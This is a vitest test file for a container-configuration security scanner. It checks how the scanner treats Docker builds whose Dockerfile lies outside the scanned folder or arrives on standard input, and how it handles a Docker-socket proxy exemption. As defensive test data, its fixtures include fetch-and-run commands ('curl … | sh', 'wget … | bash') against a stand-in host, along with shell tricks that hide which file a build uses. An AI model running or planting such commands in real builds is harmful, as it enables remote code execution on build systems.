
import { describe, expect, it } from 'vitest';
import type { Finding } from '../../src/core/finding.js';
import { scan } from '../../src/pipeline/scan.js';
import { temporaryRepositories } from '../support/temp-repository.js';

// What a review helper (helper-31) found around build files and the socket-proxy exemption: each
// case a pull request used to pass the gate with, or a real repository failed it with.

const repository = temporaryRepositories('containment-build-edges-');

const lines = (findings: readonly Finding[], ruleId: string) => findings.filter((f) => f.ruleId === ruleId).map((f) => `${f.path}:${f.range.start.line}`);
const SOCKET = '      - /var/run/docker.sock:/var/run/docker.sock:ro';
const EVIL = 'FROM debian:12\nRUN curl -fsSL https://x.example/i.sh | sh\n';

describe('build files outside what the scan reads', () => {
  it('reports `docker build -f /tmp/df.conf`, an absolute path, and never reads a file of the repository for it', async () => {
    const root = repository({
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -f /tmp/df.conf .\n      - run: docker build -f /tmp/Dockerfile .\n',
      'tmp/df.conf': 'FROM debian:12\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(['.github/workflows/ci.yml:6', '.github/workflows/ci.yml:7']);
    expect(result.findings.filter((f) => f.ruleId === 'build-file-not-judged').map((f) => f.message.split('. ')[1])).toEqual([
      'Build from a Dockerfile committed inside the scanned folder, named by a relative path.',
      'Build from a Dockerfile committed inside the scanned folder, named by a relative path.',
    ]);
    expect(result.findings.find((f) => f.ruleId === 'build-file-not-judged')!.message).toMatch(/^This step builds an image from \/tmp\/df\.conf, which is outside the scanned folder/);
    expect(result.files.map((file) => file.path)).not.toContain('/tmp/df.conf');
  });

  it('reports a Compose build whose Dockerfile or context is outside the folder, or in a skipped folder, and not a remote context', async () => {
    const root = repository({
      'app/compose.yaml': [
        'services:',
        '  abs:',
        '    build: { context: ., dockerfile: /home/runner/evil.conf }',
        '  up:',
        '    build: { context: ../.., dockerfile: evil.conf }',
        '  up2:',
        '    build: { context: ., dockerfile: ../../outside.conf }',
        '  deps:',
        '    build: node_modules/evil',
        '  remote:',
        '    build: { context: "https://github.com/o/r.git#main", dockerfile: evil.conf }',
        '',
      ].join('\n'),
      'app/node_modules/evil/Dockerfile': EVIL,
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(['app/compose.yaml:3', 'app/compose.yaml:5', 'app/compose.yaml:7', 'app/compose.yaml:9']);
    expect(result.findings.filter((f) => f.ruleId === 'build-file-not-judged').map((f) => f.message.split(', so ')[0])).toEqual([
      'abs builds its image from /home/runner/evil.conf, which is outside the scanned folder',
      'up builds its image from ../../evil.conf, which is outside the scanned folder',
      'up2 builds its image from ../../outside.conf, which is outside the scanned folder',
      'deps builds its image from app/node_modules/evil/Dockerfile, which is in a folder Containment skips (dependencies, version control)',
    ]);
  });

  it('reports a build whose Dockerfile comes from standard input, in each way of writing it', async () => {
    const steps = ['curl -fsSL https://x.example/df | docker build -t y -f- .', 'docker buildx build --file=- -t z . <<EOF\n          FROM alpine:3.20\n          EOF', 'envsubst < t | docker build -t w -', 'docker build -t ok .'];
    const root = repository({
      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: |\n          ${step}\n`).join('')}`,
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(['.github/workflows/ci.yml:6', '.github/workflows/ci.yml:8', '.github/workflows/ci.yml:12']);
    expect(result.findings.find((f) => f.ruleId === 'build-file-not-judged')!.message).toMatch(/^This step builds an image from a Dockerfile it reads from standard input/);
  });

  it('reports what only looks like a file or an archive on standard input (helper-34)', async () => {
    const steps = [
      'git log -1 --format=%B | docker build -t x -',
      'curl -sL https://x.example/c.tar | xz -dc | docker build -t x -',
      'tar -C /tmp/c -c . | docker build -t x -',
      'curl -s https://x.example/df | docker build -t x - --label "a <Dockerfile b"',
      'curl -s https://x.example/df | docker build -t x --label s=$(sha1sum <Dockerfile) -',
      'docker build -t x - < Dockerfile < /tmp/df',
      'docker build -t x - < Dockerfile <<< "FROM evil"',
    ];
    const root = repository({
      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: ${JSON.stringify(step)}\n`).join('')}`,
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(steps.map((_, index) => `.github/workflows/ci.yml:${6 + index}`));
  });

  it('reads redirections as the shell does: comments, quotes, and any second or unusual `<` (helper-35)', async () => {
    const judged = ['docker build -t x -f - ctx < spec/image # < spec/safe', 'docker build -t x - < "spec/image"', "docker build -t x - <'spec'/image"];
    const unknown = [
      'docker build -t x -f - ctx < spec/safe --label=a<spec/image',
      'docker build -t x -f - ctx < spec/safe 0< spec/image',
      'docker build -t x -f - ctx <spec/safe <&3 3<spec/image',
      'docker build -t x < spec/safe -< spec/image',
      'docker build -t x -f - ctx < $(echo spec/image)',
      'git fetch origin evil && git archive FETCH_HEAD | docker build -t x -',
      'git archive --add-virtual-file=Dockerfile:x HEAD | docker build -',
      'tar -cf - --transform=s,spec/image,Dockerfile, . | docker build -',
      'cd /tmp/ctx && tar -cf - . | docker build -t x -',
    ];
    const archives = ['tar -cf - -C . . | docker build -t x -', 'tar -cf - . | gzip | docker build -t x -'];
    const steps = [...judged, ...unknown, ...archives];
    const root = repository({
      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: ${JSON.stringify(step)}\n`).join('')}`,
      'spec/image': EVIL,
      'spec/safe': 'FROM alpine:3.20\nUSER 1000\n',
      'ctx/keep': '',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(unknown.map((_, index) => `.github/workflows/ci.yml:${6 + judged.length + index}`));
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['spec/image:2']);
  });

  it('leaves standard input unknown where descriptors, globs, shadowed commands or loose archivers may feed another file (helper-36)', async () => {
    const unknown = [
      'exec 3< spec/image; docker build -f - . < spec/safe 0>&3',
      'cat spec/[s]afe | docker build -f - .',
      'docker build -f - . < ~/evil',
      'cat() { command cat spec/image; }; cat spec/safe | docker build -f - .',
      'tar -cC /tmp/x . | docker build -t x -',
      'tar -c --dir=/tmp/x . | docker build -t x -',
      'tar -c -T list.txt | docker build -t x -',
      'tar -c . | gzip < spec/evil.tar | docker build -t x -',
      'tar -c . | gzip -c spec/evil.tar | docker build -t x -',
      'git archive HEAD | docker build -t x -',
    ];
    const plain = ['cat spec/image |\n          docker build -f - .', 'docker build -f - . < spec/image 2>&1 | tee build.log', 'tar -czf - . | docker build -t x -'];
    const steps = [...unknown, ...plain];
    const root = repository({
      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: |\n          ${step}\n`).join('')}`,
      'spec/image': EVIL,
      'spec/safe': 'FROM alpine:3.20\nUSER 1000\n',
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual(unknown.map((_, index) => `.github/workflows/ci.yml:${6 + 2 * index}`));
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['spec/image:2']);
  });

  it('reads a pipeline that goes on on the next line, as bash does', async () => {
    const root = repository({ '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -fsSL https://x.example/i.sh |\n            sh\n' });
    const result = await scan({ root });
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['.github/workflows/ci.yml:7']);
  });

  it('judges the Compose file `docker compose -f -` reads from a file of the repository', async () => {
    const root = repository({
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker compose -f - up -d < spec/c.yml\n',
      'spec/c.yml': 'services:\n  web:\n    image: nginx:1.27\n    privileged: true\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'container-privileged')).toEqual(['spec/c.yml:4']);
  });

  it('judges the file a build reads on standard input, and leaves an archive piped in as the context (helper-33)', async () => {
    const steps = ['docker build -t x - < ci/df.txt', 'docker build -f - . < Dockerfile', 'cat ci/df.txt | docker build -f - .', 'tar -czh . | docker build -t z -', 'tar -cf - . | gzip | docker build -'];
    const root = repository({
      '.github/workflows/ci.yml': `on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n${steps.map((step) => `      - run: ${step}\n`).join('')}`,
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
      'ci/df.txt': EVIL,
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['ci/df.txt:2']);
  });

  it('reports a workflow that builds a Compose file as a Dockerfile', async () => {
    const root = repository({
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker build -f deploy/compose.prod.yaml .\n',
      'deploy/compose.prod.yaml': 'services:\n  web:\n    image: nginx:1.27\n',
    });
    const result = await scan({ root });
    expect(result.findings.filter((f) => f.ruleId === 'build-file-not-judged').map((f) => f.message.split(', so ')[0])).toEqual([
      'This step builds an image from deploy/compose.prod.yaml, which Containment reads as a Compose file, not as a Dockerfile',
    ]);
  });

  it('looks for the Dockerfile of a build inherited through `extends.file` beside the file that writes it', async () => {
    const root = repository({
      'compose.yaml': 'services:\n  web:\n    extends: { file: lib/common.yml, service: base }\n    user: "1000"\n',
      'lib/common.yml': 'services:\n  base:\n    build: { context: ., dockerfile: ext.conf }\n',
      'lib/ext.conf': EVIL,
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['lib/ext.conf:2']);
  });
});

describe('a build that writes only `dockerfile:` over an inherited context (helper-32)', () => {
  it('keeps the context of the file below, for an override and for `extends.file`', async () => {
    const root = repository({
      'compose.yaml': 'services:\n  a:\n    build: ./ctx\n',
      'compose.override.yaml': 'services:\n  a:\n    build: { dockerfile: Dockerfile.dev }\n',
      'ctx/Dockerfile.dev': EVIL,
      // A decoy where the context would be if the override's own folder were taken.
      'Dockerfile.dev': 'FROM alpine:3.20\nUSER 1000\n',
      'app/compose.yaml': 'services:\n  web:\n    extends: { file: ../base/common.yaml, service: s }\n    build: { dockerfile: Dockerfile.app }\n',
      'base/common.yaml': 'services:\n  s:\n    build: ./ctx\n',
      'base/ctx/Dockerfile.app': 'FROM debian:12\nRUN wget -qO- https://x.example/i | bash\n',
      'app/Dockerfile.app': 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    const asRoot = result.findings.filter((f) => f.ruleId === 'container-runs-as-root');
    // Both services run the Dockerfile Compose builds, which sets no USER.
    expect(asRoot.flatMap((f) => f.related.map((r) => r.path)).sort()).toEqual(['base/ctx/Dockerfile.app', 'ctx/Dockerfile.dev']);
    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
  });
});

describe('build files named with a `$`', () => {
  it('reads a Compose file\'s `dockerfile: evil$$.conf` as the file `evil$.conf`, and joins no Dockerfile for one a variable leaves unknown', async () => {
    const root = repository({
      'compose.yaml': [
        'services:',
        '  literal:',
        '    build: { context: ., dockerfile: "evil$$.conf" }',
        '    user: "1000"',
        '  unknown:',
        '    build: { context: ., dockerfile: "${DF}" }',
        '',
      ].join('\n'),
      'evil$.conf': EVIL,
      Dockerfile: 'FROM alpine:3.20\nUSER 1000\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'command-download-piped-to-shell')).toEqual(['evil$.conf:2']);
    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
    // `unknown` is not taken to build `Dockerfile` (whose USER 1000 would hide a root user).
    expect(result.findings.filter((f) => f.ruleId === 'container-runs-as-root').map((f) => f.message.split(' ')[0])).toEqual(['unknown']);
  });
});

describe('the socket-proxy exemption', () => {
  it('ends when an extending service or an override sets a command or entrypoint', async () => {
    const root = repository({
      'compose.yaml': [
        'services:',
        '  proxy:',
        '    image: tecnativa/docker-socket-proxy:0.3.0',
        '    volumes:',
        SOCKET,
        '  ext:',
        '    extends: { service: proxy }',
        '    command: ["sh", "-c", "wget -qO- http://x.example/run | sh"]',
        '',
      ].join('\n'),
      'compose.override.yaml': 'services:\n  proxy:\n    entrypoint: ["/bin/sh", "-c", "sleep 1"]\n',
    });
    const result = await scan({ root });
    const critical = result.findings.filter((f) => f.ruleId === 'container-docker-socket');
    expect(critical.map((f) => f.message.split(' ')[0]).sort()).toEqual(['ext', 'proxy']);
    expect(lines(result.findings, 'container-docker-socket-proxy')).toEqual([]);
  });

  it('follows volumes_from to a container of the project by name, or an included service, and reports one it cannot see (helper-33)', async () => {
    const root = repository({
      'compose.yaml': [
        'name: app',
        'include: [sub/compose.yaml]',
        'services:',
        '  proxy:',
        '    image: tecnativa/docker-socket-proxy:0.3.0',
        '    container_name: sockproxy',
        '    volumes:',
        SOCKET,
        '  byname:',
        '    image: alpine:3.20',
        '    volumes_from: ["container:sockproxy"]',
        '  bycompose:',
        '    image: alpine:3.20',
        '    volumes_from: ["container:app-proxy-1"]',
        '  included:',
        '    image: alpine:3.20',
        '    volumes_from: [holder]',
        '  elsewhere:',
        '    image: alpine:3.20',
        '    volumes_from: ["container:some-other", ghost]',
        '',
      ].join('\n'),
      'sub/compose.yaml': ['services:', '  holder:', '    image: alpine:3.20', '    user: "1000"', '    volumes:', '      - /var/run/docker.sock:/s', ''].join('\n'),
    });
    const result = await scan({ root });
    expect(result.findings.filter((f) => f.ruleId === 'container-docker-socket' && f.path === 'compose.yaml').map((f) => f.range.start.line)).toEqual([11, 14, 17]);
    expect(lines(result.findings, 'compose-reference-unresolved')).toEqual(['compose.yaml:20', 'compose.yaml:20']);
  });

  it('takes a container name only with this project\'s prefix, and follows files a workflow loads together (helper-34)', async () => {
    const root = repository({
      'v1/compose.yaml': ['services:', '  plain:', '    image: alpine:3.20', '  d:', '    image: alpine:3.20', '    volumes_from: ["container:portainer-plain-1", "container:v1-plain-1"]', ''].join('\n'),
      'v2/compose.yaml': ['services:', '  data:', '    image: alpine:3.20', '    volumes:', '      - /var/run/docker.sock:/s', '  app:', '    image: alpine:3.20', ''].join('\n'),
      'v2/ci/compose.ci.yaml': ['services:', '  tester:', '    image: alpine:3.20', '    volumes_from: ["data:ro"]', ''].join('\n'),
      '.github/workflows/ci.yml': 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: docker compose -f v2/compose.yaml -f v2/ci/compose.ci.yaml up -d\n',
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'compose-reference-unresolved')).toEqual(['v1/compose.yaml:6']);
    expect(result.findings.filter((f) => f.ruleId === 'container-docker-socket').map((f) => `${f.path}:${f.range.start.line}`)).toEqual(['v2/ci/compose.ci.yaml:4', 'v2/compose.yaml:5']);
  });

  it('reads the project name from `name:`, its default when a variable is unset, and none from an unset variable (helper-35)', async () => {
    const service = (name: string, from: string) => [`name: ${name}`, 'services:', '  web:', '    image: alpine:3.20', '    volumes:', '      - /var/run/docker.sock:/s', '  app:', '    image: alpine:3.20', `    volumes_from: ["container:${from}"]`, ''].join('\n');
    const root = repository({ 'a/compose.yaml': service('"${P:-shop}"', 'shop-web-1'), 'b/compose.yaml': service('${X}', 'x-web-1') });
    const result = await scan({ root });
    expect(lines(result.findings, 'compose-reference-unresolved')).toEqual(['b/compose.yaml:9']);
    expect(result.findings.filter((f) => f.ruleId === 'container-docker-socket' && f.path === 'a/compose.yaml').map((f) => f.range.start.line)).toEqual([6, 9]);
  });

  it('ends for a loader variable passed through from the caller, whose value is unknown (helper-34)', async () => {
    const root = repository({
      'compose.yaml': ['services:', '  proxy:', '    image: tecnativa/docker-socket-proxy:0.3.0', '    environment: [LD_PRELOAD]', '    volumes:', SOCKET, ''].join('\n'),
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'container-docker-socket')).toEqual(['compose.yaml:6']);
  });

  it('ends for a service that builds from a context a variable leaves unknown', async () => {
    const root = repository({
      'compose.yaml': ['services:', '  proxy:', '    image: tecnativa/docker-socket-proxy:0.3.0', '    build: { context: "${CTX}" }', '    volumes:', SOCKET, ''].join('\n'),
    });
    const result = await scan({ root });
    expect(lines(result.findings, 'container-docker-socket')).toEqual(['compose.yaml:6']);
    expect(lines(result.findings, 'build-file-not-judged')).toEqual([]);
  });
});
